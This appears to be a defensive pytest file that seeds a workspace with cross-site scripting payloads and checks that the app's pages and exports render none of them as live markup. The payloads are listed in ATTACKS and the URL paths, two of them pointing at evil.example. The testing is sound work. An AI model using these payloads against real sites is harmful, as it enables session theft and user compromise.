"""Hostile input 13: `<script>`, `onerror`, `javascript:` and SVG in whatever a page shows. Nothing of it runs.

Once by what the pages are made of, once in a browser. Fails without `autoescape` in web/rendering.py (both halves),
and, in the browser, lets the policy of web/guard.py alone still hold the scripts back.
"""

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from lineage.app.init_workspace import init_workspace
from lineage.app.workspace import run_in_workspace
from lineage.core.base.naming import derive_session_token
from lineage.index import SessionFilter
from lineage.pipeline.memory.remember import Memo, remember
from lineage.web.export.folder import export_site
from lineage.web.export.single import render_session_page
from lineage.workspace.workspace import Workspace
from tests.support.browser import needs_browser, open_browser
from tests.support.sample_workspace import AGENT
from tests.support.web_client import serve_workspace
from tests.support.workspace import compact_session, end_session

pytestmark = pytest.mark.slow

ATTACKS = (
    "<script>alert('script')</script>",
    "<img src=x onerror=alert('img')>",
    "<svg onload=alert('svg')><animate onbegin=alert('animate')></svg>",
    "<a href=\"javascript:alert('link')\">press</a>",
    "\"><script>alert('attribute')</script>",
    "' autofocus onfocus=alert('focus') x='",
    "</textarea></title></style></pre></svg><script>alert('closed')</script>",
    "[press](javascript:alert('markdown)) ![x](javascript:alert(1))",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mtext><style><img src=x onerror=alert('mutation')></style></mtext></math>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<base href='https://evil.example/'><form action='https://evil.example/'><meta http-equiv=refresh content=0>",
)
EVERYTHING = " ".join(ATTACKS)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    init_workspace(tmp_path / "vault")
    run_in_workspace(tmp_path / "vault", _poisoned, writes=True)
    return tmp_path / "vault"


def _poisoned(ws: Workspace) -> None:
    turns = [{"role": role, "text": text} for text in ATTACKS for role in ("user", "assistant")]
    turns += [{"role": "assistant", "text": "", "name": f"Bash {text}", "input": text} for text in ATTACKS] + [
        {"role": "tool", "text": text, "name": text} for text in ATTACKS
    ]
    where: dict[str, Any] = {"project": f"/home/ada/{ATTACKS[1]}", "transcript": turns}
    end_session(ws, "<script>alert('id')</script>", **where, summary=EVERYTHING)
    compact_session(ws, "<script>alert('id')</script>", summary=EVERYTHING, **where)
    for attack in ATTACKS:
        end_session(ws, f"s {attack}", transcript=[{"role": "user", "text": attack}], project=f"/home/ada/{attack}")
        remember(ws, Memo(text=f"Remember {attack}", kind="fact", tags=(attack,)))
        remember(ws, Memo(text=f"Prefers {attack} over others", kind="preference"), AGENT)
    remember(ws, Memo(text="In a scope of its own.", kind="fact", scope=f"peer/{ATTACKS[1]}"))


class Elements(HTMLParser):
    """The elements and attributes that a page is made of."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def paths(client: Any) -> list[str]:
    sessions = [row["session_token"] for row in client.get("/api/sessions", agent="all").json["sessions"]]
    waiting = [entry["id"] for entry in client.get("/api/pending").json["entries"]]
    found = ["/", "/memory", "/status", "/search?q=script", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"]
    found += ["/?project=%22%3E%3Cscript%3Ealert(2)%3C/script%3E", "/memory?filter=%22%20onfocus=alert(3)%20autofocus"]
    found += ["/sessions/%3Cscript%3Ealert(4)%3C%2Fscript%3E", "/%3Cscript%3Ealert(5)", "/?nope=<svg/onload=alert(6)>"]
    found += [f"/sessions/{token}" for token in sessions] + [f"/sessions/{token}/remove" for token in sessions[:3]]
    found += [f"/sessions/{token}/files/{kind}" for token in sessions[:2] for kind in ("summary", "transcript")]
    found += [f"/sessions/{token}{rest}" for token in sessions[-1:] for rest in ("?only=said", "/turns/1", "/turns/30")]
    found += ["/?text=%22%3E%3Cscript%3Ealert(7)%3C/script%3E", "/sessions/" + sessions[0] + "?find=%3Csvg%3E"]
    found += [f"/memory?group={group}" for group in ("pending", "global", "scoped", "session")]
    facts = [entry["id"] for entry in client.get("/api/entries", kind="fact").json["entries"]]
    found += [f"/entries/{entry}" for entry in (*facts, *waiting[:2])]
    return found + [f"/entries/{entry}/confirm" for entry in waiting]


def test_pages_are_made_of_our_own_elements_alone(root: Path) -> None:
    with serve_workspace(root) as client:
        for path in paths(client):
            text = client.get(path).text
            assert "49{" not in text
            for tag, attributes in Elements(text).found:
                assert tag not in ("iframe", "img", "math", "style", "base", "object", "embed", "animate"), path
                assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")], path
                assert tag != "script" or attributes.get("src") == "/static/lineage.js", path
                assert tag != "meta" or "http-equiv" not in attributes, path
                for name in ("href", "src", "action"):
                    assert re.match(r"/(?!/)|#|$", attributes.get(name, "")), (path, attributes)


def export(root: Path, folder: Path) -> list[Path]:
    """The pages of an export of everything, one session in a file among them, from the folder that they lie in."""
    export_site(root, folder / "site", None, SessionFilter())
    first = derive_session_token("default", "<script>alert('id')</script>")
    (folder / "one.html").write_bytes(run_in_workspace(root, lambda ws: render_session_page(ws, first)))
    return [folder / "one.html", *sorted((folder / "site").rglob("*.html"))]


def test_an_export_is_made_of_our_own_elements_alone(root: Path, tmp_path: Path) -> None:
    pages = export(root, tmp_path)
    assert len(pages) > 40
    for path in pages:
        text, up = path.read_text(), "../" * (len(path.relative_to(tmp_path).parts) - 2)
        assert "49{" not in text
        for tag, attributes in Elements(text).found:
            assert tag not in ("iframe", "img", "math", "base", "object", "embed", "animate", "form"), path
            assert tag != "style" or path.name == "one.html"
            assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")], path
            assert tag != "script" or attributes["src"] in (f"{up}static/lineage.js", f"{up}static/search.js"), path
            assert attributes.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
            for name in ("href", "src"):
                assert re.fullmatch(r"(?:\.\./)?[\w/.-]*(?:#[\w-]+)?", attributes.get(name, "")), (path, attributes)
    for path in (tmp_path / "site").rglob("*.md"):
        shown = MarkdownIt().render(path.read_text())
        assert not re.search(r"<(?!/?(?:h\d|p|ul|ol|li|pre|code|strong|em|blockquote)\b)", shown), path


def test_json_is_never_taken_for_a_page(root: Path) -> None:
    with serve_workspace(root) as client:
        for path in ("/api/sessions?agent=all", "/api/search?q=script", "/api/<script>alert(1)</script>"):
            answer = client.get(path.replace("<", "%3C").replace(">", "%3E"))
            assert answer.headers["content-type"] == "application/json"
            assert answer.headers["x-content-type-options"] == "nosniff"


@needs_browser
def test_a_browser_runs_nothing_of_an_export(root: Path, tmp_path: Path) -> None:
    pages = export(root, tmp_path)
    with open_browser("", tmp_path / "profile") as browser:
        for path in pages:
            browser.open(path.as_uri())
            browser.wait_until_visible("main")
            browser.run_script("document.querySelectorAll('details').forEach((one) => (one.open = true))")
            assert browser.read_executed() == [], path
            assert browser.read_violations() == [], path
        for attack in ("script", "onerror", ATTACKS[4]):
            browser.find_one("#q").clear()
            browser.find_one("#q").send_keys(attack)
            browser.wait_until_visible("#live .hit")
            assert browser.read_executed() == []
        assert browser.read_violations() == []
        assert browser.run_script("return document.querySelectorAll('#live script, #live img, #live svg').length") == 0


@pytest.mark.slow
@needs_browser
def test_a_browser_runs_nothing_of_it(root: Path, tmp_path: Path) -> None:
    with serve_workspace(root) as client, open_browser(client.url, tmp_path / "profile") as browser:
        for path in paths(client):
            browser.open(path)
            browser.wait_until_visible("main")
            browser.run_script("document.querySelectorAll('details').forEach((one) => (one.open = true))")
            assert browser.read_executed() == [], path
            assert browser.read_violations() == [], path
        browser.open("/")
        for attack in ("script", "onerror", ATTACKS[4]):
            browser.find_one("#q").clear()
            browser.find_one("#q").send_keys(attack)
            browser.wait_until_visible("#live .hit")
            assert browser.read_executed() == []
        assert browser.read_violations() == []
        assert browser.run_script("return document.querySelectorAll('#live script, #live img, #live svg').length") == 0
